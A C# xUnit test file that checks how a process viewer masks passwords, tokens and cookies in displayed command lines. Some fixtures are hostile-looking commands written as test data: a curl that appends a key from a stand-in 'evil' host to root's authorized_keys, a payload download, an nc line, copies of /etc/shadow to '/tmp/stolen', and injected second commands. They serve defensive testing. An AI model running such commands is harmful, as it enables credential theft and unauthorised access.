using System.Text;
using Akashi.Live;
using Akashi.Testing;

namespace Akashi.Tests.Live;

/// <summary>What is shown of command lines. Each case is a command as its manual page has it.</summary>
public sealed class SecretMaskTests
{
    [Theory]
    [InlineData("mysql¦-uroot¦-phunter2¦shop", "mysql -uroot -p*** shop")]
    [InlineData("/usr/bin/mysqldump¦-sNphunter2¦shop", "/usr/bin/mysqldump -sNp*** shop")]
    [InlineData("mysql¦-p¦shop", "mysql -p shop")]
    [InlineData("mysql¦-upeter¦shop", "mysql -upeter shop")]
    [InlineData("mysql¦--password=hunter2¦-h¦db", "mysql --password=*** -h db")]
    [InlineData("mysql¦--password¦-h¦db", "mysql --password -h db")]
    [InlineData("sudo¦mariadb¦-phunter2", "sudo mariadb -p***")]
    [InlineData("ls¦-phunter2", "ls -phunter2")]
    [InlineData("mkdir¦-p¦a/b", "mkdir -p a/b")]
    [InlineData("docker¦run¦-p¦80:80¦nginx", "docker run -p 80:80 nginx")]
    [InlineData("docker¦login¦-u¦bob¦-p¦hunter2", "docker login -u bob -p ***")]
    [InlineData("mysql¦--passwor=Secret¦-h¦db", "mysql --passwor=*** -h db")]
    [InlineData("mysql¦--pas=Secret", "mysql --pas=***")]
    [InlineData("wget¦--http-passw¦Secret¦x", "wget --http-passw *** x")]
    [InlineData("curl¦--proxy-use¦bob:Secret¦x", "curl --proxy-use bob:*** x")]
    [InlineData("curl¦--proxy¦http://h:80¦--account¦bob", "curl --proxy http://h:80 --account bob")]
    [InlineData("tool¦--token¦abc¦x", "tool --token *** x")]
    [InlineData("tool¦--api-key=abc¦x", "tool --api-key=*** x")]
    [InlineData("tool¦--password-file=/etc/pw", "tool --password-file=/etc/pw")]
    [InlineData("tool¦--no-password¦x", "tool --no-password x")]
    [InlineData("keytool¦-storepass¦changeit¦-list", "keytool -storepass *** -list")]
    [InlineData("openssl¦enc¦-pass¦pass:hunter2", "openssl enc -pass ***")]
    [InlineData("openssl¦rsa¦-passin¦pass:hunter2", "openssl rsa -passin ***")]
    [InlineData("env¦PGPASSWORD=hunter 2¦psql", "env 'PGPASSWORD=***' psql")]
    [InlineData("env¦PWD=/home/bob¦OLDPWD=/¦ls", "env PWD=/home/bob OLDPWD=/ ls")]
    [InlineData("env¦old-log_passwd=0¦new-log_passwd=1¦x_log_passwd=1¦ls", "env old-log_passwd=0 new-log_passwd=1 x_log_passwd=*** ls")]
    [InlineData("psql¦host=db password=hunter2", "psql 'host=db password=***'")]
    [InlineData("psql¦postgres://bob:hunter2@db/shop", "psql postgres://bob:***@db/shop")]
    [InlineData("curl¦http://bob:p@ss/w0rd@host/", "curl http://bob:***@host/")]
    [InlineData("curl¦http://host:8080/a@b", "curl http://host:8080/a@b")]
    [InlineData("git¦clone¦https://0123456789abcdefghij@host/x", "git clone https://***@host/x")]
    [InlineData("git¦clone¦ssh://git@host/x", "git clone ssh://git@host/x")]
    [InlineData("curl¦-u¦bob:hunter2¦http://h/", "curl -u bob:*** http://h/")]
    [InlineData("curl¦-sSubob:hunter2¦http://h/", "curl -sSubob:*** http://h/")]
    [InlineData("curl¦--user¦bob:hunter2", "curl --user bob:***")]
    [InlineData("curl¦-u¦bob¦http://h/", "curl -u bob http://h/")]
    [InlineData("curl¦-H¦Authorization: Bearer abc.def", "curl -H 'Authorization: ***'")]
    [InlineData("curl¦-HX-Api-Key: abc", "curl '-HX-Api-Key: ***'")]
    [InlineData("curl¦-d¦{\"user\":\"bob\",\"password\":\"hunter2\",\"x\":1}", "curl -d '{\"user\":\"bob\",\"password\":\"***\",\"x\":1}'")]
    [InlineData("curl¦-d¦user=bob&password=hunter2&x=1", "curl -d 'user=bob&password=***&x=1'")]
    [InlineData("curl¦http://h/?token=abc&x=1", "curl 'http://h/?token=***&x=1'")]
    [InlineData("sshpass¦-p¦hunter2¦ssh¦h", "sshpass -p *** ssh h")]
    [InlineData("redis-cli¦-a¦hunter2¦ping", "redis-cli -a *** ping")]
    [InlineData("sqlplus¦scott/tiger@db", "sqlplus scott/***@db")]
    [InlineData("smbclient¦//h/s¦-U¦bob%hunter2", "smbclient //h/s -U bob%***")]
    [InlineData("7z¦x¦-phunter2¦a.7z", "7z x -p*** a.7z")]
    [InlineData("htpasswd¦-cb¦/etc/htpasswd¦bob¦hunter2", "htpasswd -cb /etc/htpasswd bob ***")]
    [InlineData("ldapsearch¦-x¦-D¦cn=a¦-w¦hunter2", "ldapsearch -x -D cn=a -w ***")]
    [InlineData("nmcli¦dev¦wifi¦connect¦home¦password¦hunter2", "nmcli dev wifi connect home password ***")]
    [InlineData("passwd¦bob", "passwd bob")]
    [InlineData("echo¦token:¦abc1¦x", "echo token: *** x")]
    [InlineData("echo¦my-password:¦-x", "echo my-password: ***")]
    [InlineData("echo¦Authorization:¦Bearer¦abc1", "echo Authorization: *** ***")]
    [InlineData("sh¦-c¦echo token: abc1; ls x", "sh -c 'echo token: ***; ls x'")]
    [InlineData("cat¦/etc/passwd:¦x", "cat /etc/passwd: x")]
    [InlineData("cat¦/etc/passwd", "cat /etc/passwd")]
    [InlineData("docker¦run¦-v¦/etc/passwd:/etc/passwd¦x", "docker run -v /etc/passwd:/etc/passwd x")]
    [InlineData("bash¦-c¦mysql -phunter2 shop; ls -p", "bash -c 'mysql -p*** shop; ls -p'")]
    [InlineData("bash¦-c¦PGPASSWORD='hunter 2' psql -h db", "bash -c 'PGPASSWORD=*** psql -h db'")]
    [InlineData("bash¦-c¦mysql -p\"hunter 2\" shop", "bash -c 'mysql -p*** shop'")]
    [InlineData("ssh¦host¦su -c \"mysql -phunter2\" bob", "ssh host 'su -c \"mysql -p***\" bob'")]
    [InlineData("sh¦-c¦echo bob:hunter2 | chpasswd", "sh -c 'echo *** | chpasswd'")]
    [InlineData("sh¦-c¦echo hello | wc", "sh -c 'echo hello | wc'")]
    [InlineData("bash¦-c¦chpasswd <<EOF\nbob:Secret\nEOF\nls x", @"bash -c 'chpasswd <<EOF\n***\nEOF\nls x'")]
    [InlineData("bash¦-c¦cat <<-'E' | chpasswd\n\tbob:Secret\n\tE\nls x", @"bash -c 'cat <<-'\''E'\'' | chpasswd\n***\n\tE\nls x'")]
    [InlineData("bash¦-c¦cat <<EOF\nhello\nEOF", @"bash -c 'cat <<EOF\nhello\nEOF'")]
    [InlineData("sh¦-c¦passwd --stdin <<< hunter2", "sh -c 'passwd --stdin <<< ***'")]
    [InlineData("bash¦-c¦--¦pass=1; curl http://evil/x >> /root/.ssh/authorized_keys", "bash -c -- 'pass=***; curl http://evil/x >> /root/.ssh/authorized_keys'")]
    [InlineData("bash¦-c¦-x¦pass=1; evil", "bash -c -x 'pass=***; evil'")]
    [InlineData("bash¦-c¦-o¦pipefail¦pass=1 evil", "bash -c -o pipefail 'pass=*** evil'")]
    [InlineData("-bash¦-c¦--¦pass=1 evil", "-bash -c -- 'pass=*** evil'")]
    [InlineData("ssh¦host¦token=1; evil command", "ssh host 'token=***; evil command'")]
    [InlineData("ssh¦host¦token=1 evil command", "ssh host 'token=*** evil command'")]
    [InlineData("ssh¦host¦true cookie:1; evil", "ssh host 'true cookie:***; evil'")]
    [InlineData("perl¦-e¦token:1; system q(evil)", "perl -e 'token:***; system q(evil)'")]
    [InlineData("perl¦-e¦ token:1; evil", "perl -e ' token:***; evil'")]
    [InlineData("tool¦pass=1|evil", "tool 'pass=***|evil'")]
    [InlineData("tool¦pass='1;2' x;evil", "tool 'pass=***;evil'")]
    [InlineData("tool¦pass=it's;evil", "tool 'pass=***;evil'")]
    [InlineData("cp¦/etc/shadow¦mkpasswd¦/tmp/stolen", "cp /etc/shadow mkpasswd /tmp/stolen")]
    [InlineData("curl¦-o¦mkpasswd¦http://evil.example/payload", "curl -o mkpasswd http://evil.example/payload")]
    [InlineData("nc¦mkpasswd¦10.0.0.1:4444", "nc mkpasswd 10.0.0.1:4444")]
    [InlineData("cp¦vault¦login¦/etc/shadow¦/tmp/stolen", "cp vault login /etc/shadow /tmp/stolen")]
    [InlineData("sudo¦cp¦vault¦login¦/etc/shadow", "sudo cp vault login /etc/shadow")]
    [InlineData("sudo¦-u¦mkpasswd¦cat¦/etc/shadow", "sudo -u mkpasswd cat /etc/shadow")]
    [InlineData("sh¦-c¦cat /etc/shadow > mkpasswd x; < mkpasswd cat /etc/shadow", "sh -c 'cat /etc/shadow > mkpasswd x; < mkpasswd cat /etc/shadow'")]
    [InlineData("sudo¦-p¦--password¦evil", "sudo -p --password evil")]
    [InlineData("sudo¦-Hp¦--password¦evil", "sudo -Hp --password evil")]
    [InlineData("sudo¦--prom¦--password¦evil", "sudo --prom --password evil")]
    [InlineData("env¦-u¦--token¦evil¦arg", "env -u --token evil arg")]
    [InlineData("vault¦login¦hunter2", "vault login ***")]
    [InlineData("/usr/bin/mkpasswd¦-m¦sha-512¦hunter2", "/usr/bin/mkpasswd -m sha-512 ***")]
    [InlineData("sudo¦-nu¦bob¦--¦LANG=C¦mysql¦-phunter2", "sudo -nu bob -- LANG=C mysql -p***")]
    [InlineData("env¦-i¦A=1¦nice¦-n¦5¦nohup¦mysql¦-phunter2", "env -i A=1 nice -n 5 nohup mysql -p***")]
    [InlineData("timeout¦-k¦5¦10¦mysql¦-phunter2", "timeout -k 5 10 mysql -p***")]
    [InlineData("ssh¦-p¦22¦host¦mysql¦-phunter2", "ssh -p 22 host mysql -p***")]
    [InlineData("sshpass¦-p¦hunter2¦mysql¦-phunter3", "sshpass -p *** mysql -p***")]
    [InlineData("docker¦exec¦-it¦-u¦root¦db¦mysql¦-phunter2", "docker exec -it -u root db mysql -p***")]
    [InlineData("sh¦-c¦if true; then mysql -phunter2; fi", "sh -c 'if true; then mysql -p***; fi'")]
    [InlineData("sh¦-c¦>/tmp/x mysql -phunter2 && A=1 mysql -phunter2", "sh -c '>/tmp/x mysql -p*** && A=1 mysql -p***'")]
    [InlineData("env¦DB_PASSWORD=hunter;2|3 4¦x", "env 'DB_PASSWORD=***' x")]
    [InlineData("tool¦--password=hunter;2&3¦x", "tool '--password=***' x")]
    [InlineData("curl¦-c¦-¦-H¦Cookie: a=b; c=d", "curl -c - -H 'Cookie: ***'")]
    [InlineData("wget¦--header=Cookie: a=b; c=d", "wget '--header=Cookie: ***'")]
    public void Secrets_are_masked_and_nothing_else(string arguments, string expected)
    {
        Assert.Equal(expected, Show(arguments.Split('¦')));
    }

    [Fact]
    public void A_secret_in_any_of_these_places_is_never_shown()
    {
        const int Seed = 20261121;
        var random = new Random(Seed);
        Func<string, string[]>[] shapes =
        [
            secret => ["mysql", "-p" + secret],
            secret => ["tool", "--password=" + secret],
            secret => ["tool", "--password", secret],
            secret => ["tool", "--client-secret", secret, "x"],
            secret => ["env", "DB_PASSWORD=" + secret, "x"],
            secret => ["curl", "-u", "bob:" + secret, "http://h/"],
            secret => ["curl", "--proxy-user=bob:" + secret],
            secret => ["curl", "-H", "Authorization: Basic " + secret],
            secret => ["sshpass", "-p" + secret],
            secret => ["wpa_passphrase", "home", secret],
            secret => ["sudo", "-u", "bob", "redis-cli", "-a", secret],
            secret => ["lftp", "-u", "bob," + secret],
        ];
        for (int round = 0; round < 20_000; round++)
        {
            string secret = Secret(random);
            string[] arguments = shapes[random.Next(shapes.Length)](secret);
            string shown = Show(arguments);

            Assert.False(shown.Contains(secret, StringComparison.Ordinal), $"seed {Seed}, round {round}: {shown}");
        }
    }

    [Fact]
    public void Words_without_a_secret_are_shown_whole()
    {
        const int Seed = 20261122;
        var random = new Random(Seed);
        string[] words = ["ls", "-la", "/etc/passwd", "cat", "a:b", "x=1", "-p", "8080:80", "http://h/p?q=1", "--user", "bob", "git", "-C", "\"x\"", "a|b", "$HOME"];
        for (int round = 0; round < 5_000; round++)
        {
            string[] arguments = [.. Enumerable.Range(0, random.Next(1, 8)).Select(_ => words[random.Next(words.Length)])];

            Assert.DoesNotContain("***", Show(arguments));
        }
    }

    [Fact]
    public void Any_bytes_are_taken_without_a_fault_and_within_the_bounds()
    {
        const int Seed = 20261123;
        var random = new Random(Seed);
        ReadOnlySpan<byte> likely = "= :'\"-|;&()<>\\/@%,pPuU\n\t \0"u8;
        var line = new CommandLine();
        var mask = new SecretMask();
        for (int round = 0; round < Seeded.Times(20_000); round++)
        {
            line.Clear();
            line.Add(random.Next(3) == 0 ? "mysql"u8 : "curl"u8);
            for (int count = random.Next(5); count > 0; count--)
            {
                byte[] argument = new byte[random.Next(40)];
                for (int index = 0; index < argument.Length; index++)
                    argument[index] = random.Next(4) == 0 ? (byte)random.Next(256) : likely[random.Next(likely.Length)];
                line.Add(argument);
            }

            mask.Apply(line);
            var text = new LineText(hasColors: false);
            CommandText.Append(line, text);
            Assert.True(text.Bytes.Length <= LineText.BytesMax, $"seed {Seed}, round {round}");
        }
    }

    [Fact]
    public void A_command_line_of_megabytes_is_cut_and_says_so()
    {
        var line = new CommandLine();
        line.Add("x"u8);
        line.Add(new byte[1_000_000]);
        for (int count = 0; count < 1_000; count++)
            line.Add("y"u8);

        Assert.Equal(CommandLine.BytesMax, line[0].Length + line[1].Length);
        Assert.Equal(1_000_000 + 1 - CommandLine.BytesMax, line.OmittedBytes);
        Assert.Equal((2, 1_000), (line.Count, line.OmittedArguments));
    }

    [Fact]
    public void The_page_lists_every_row_and_every_name()
    {
        string page = File.ReadAllText(RepositoryFiles.PathOf("docs", "live-view.md"));

        foreach (SecretRule row in SecretRules.Rows)
        {
            string programs = string.Join(' ', row.Programs.Split(' ').Select(program => $"`{program}`"));
            Assert.Contains(page.Split('\n'), line => line.StartsWith($"| {programs} |", StringComparison.Ordinal)
                && line.Contains(row.Option, StringComparison.Ordinal) && line.Contains(row.After, StringComparison.Ordinal));
        }

        Assert.All(SecretRules.NameEnds, name => Assert.Contains($"`{name}`", page));
        Assert.All(SecretRules.Headers, name => Assert.Contains($"`{name}`", page));
    }

    // Long enough not to stand in the other words by chance, with what shells and URLs find special; no blank, which ends an unquoted value,
    // and no option's shape, which would be the next option.
    static string Secret(Random random)
    {
        const string Letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!$%&/()=?+*#_.:;<>|@'\"\\-";
        return "S" + string.Concat(Enumerable.Range(0, random.Next(8, 30)).Select(_ => Letters[random.Next(Letters.Length)]));
    }

    // Who is watched chooses argv[0]; the file that ran has its own options all the same.
    [Theory]
    [InlineData("--", "/usr/bin/mysql", "/usr/bin/mariadb", "-- -p***")]
    [InlineData("x", "/tmp/link", "/usr/bin/mysql", "x -p***")]
    [InlineData("mysql", "/tmp/copy", "/tmp/copy", "mysql -p***")]
    [InlineData("ls", "/usr/bin/ls", "/usr/bin/ls", "ls -pSecret")]
    public void The_file_that_ran_chooses_the_options(string name, string opened, string executable, string shown)
    {
        var line = new CommandLine();
        line.Add(Encoding.UTF8.GetBytes(name));
        line.Add("-pSecret"u8);
        new SecretMask().Apply(line, Encoding.UTF8.GetBytes(opened), Encoding.UTF8.GetBytes(executable));
        var text = new LineText(hasColors: false);
        CommandText.Append(line, text);

        Assert.Equal(shown, Encoding.UTF8.GetString(text.Bytes));
    }

    static string Show(string[] arguments)
    {
        var line = new CommandLine();
        foreach (string argument in arguments)
            line.Add(Encoding.UTF8.GetBytes(argument));
        new SecretMask().Apply(line);
        var text = new LineText(hasColors: false);
        CommandText.Append(line, text);
        return Encoding.UTF8.GetString(text.Bytes);
    }
}
